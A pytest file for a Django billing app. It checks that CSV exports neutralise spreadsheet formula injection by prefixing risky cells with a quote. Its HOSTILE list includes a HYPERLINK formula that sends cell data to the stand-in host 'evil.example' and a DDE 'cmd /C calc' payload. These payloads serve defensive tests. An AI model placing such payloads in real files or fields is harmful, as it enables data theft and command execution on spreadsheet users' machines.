"""Every CSV export: no cell a spreadsheet would run as a formula (OWASP "CSV injection")."""

import csv
import io
import re
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command

from antidote.csv import safe_cell
from billing import services
from tests.factories import ClinicFactory, ClinicMemberFactory, StaffFactory, fund

pytestmark = pytest.mark.django_db

# What a hostile memo, clinic name or user name could start with, and how it must come out.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Refund")',
    "+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Lead #12", "", "1000", "ok = fine", "a-b", 0, -100, 250, None])
def test_other_text_and_numbers_are_left_alone(value):
    # Numbers are ours, not user text: a debit stays -100 so the column still sums.
    assert safe_cell(value) == value


def _ledger_with_hostile_text(clinic):
    fund(clinic, 1_000)
    for n, text in enumerate(HOSTILE):
        services.grant_credits(clinic=clinic, credits=1, idempotency_key=f"h:{n}", memo=text)
    staff = StaffFactory(username="@admin")
    services.adjust_credits(
        clinic=clinic, credits=-100, actor=staff, reason="correction", idempotency_key="-1+1"
    )


def _memos(rows, column):
    return [row[column] for row in rows[1:]]


def test_clinic_history_csv_neutralises_formulas(client, clinic):
    _ledger_with_hostile_text(clinic)
    client.force_login(ClinicMemberFactory(clinic=clinic).user)
    download = client.get("/clinic/credits/history?format=csv")
    assert download.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(download.streaming_content).decode())))
    memo = rows[0].index("memo")
    assert {"'" + text for text in HOSTILE} <= set(_memos(rows, memo))
    assert not any(re.match(r"[=+\-@\t\r]", cell) for row in rows for cell in row[memo:])
    kind, credits = rows[0].index("kind"), rows[0].index("credits")
    adjustment = next(row for row in rows if row[kind] == "admin_adjustment")
    assert adjustment[credits] == "-100"  # a number we computed, not text: not escaped


def test_export_ledger_neutralises_formulas_in_every_text_column(tmp_path):
    clinic = ClinicFactory(name="=1+1 Clinic")
    _ledger_with_hostile_text(clinic)
    out = tmp_path / "ledger.csv"
    call_command("export_ledger", "--out", str(out), stdout=StringIO())
    rows = list(csv.reader(out.open(newline="", encoding="utf-8")))
    header = rows[0]
    assert {row[header.index("clinic")] for row in rows[1:]} == {"'=1+1 Clinic"}
    assert {"'" + text for text in HOSTILE} <= set(_memos(rows, header.index("memo")))
    last = dict(zip(header, rows[-1], strict=True))
    assert (last["actor"], last["idempotency_key"], last["credits"]) == ("'@admin", "'-1+1", "-100")


def test_export_ledger_to_stdout_is_neutralised_too():
    clinic = ClinicFactory(name="@Clinic")
    fund(clinic, 10)
    out = StringIO()
    call_command("export_ledger", "--out", "-", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][rows[0].index("clinic")] == "'@Clinic"


def test_every_csv_writer_in_the_project_goes_through_the_safe_helper():
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for folder in ("antidote", "billing", "leads", "payments", "disputes")
        for path in (root / folder).rglob("*.py")
        if path.name != "csv.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], "write CSV with antidote.csv.csv_writer so no cell starts a formula"
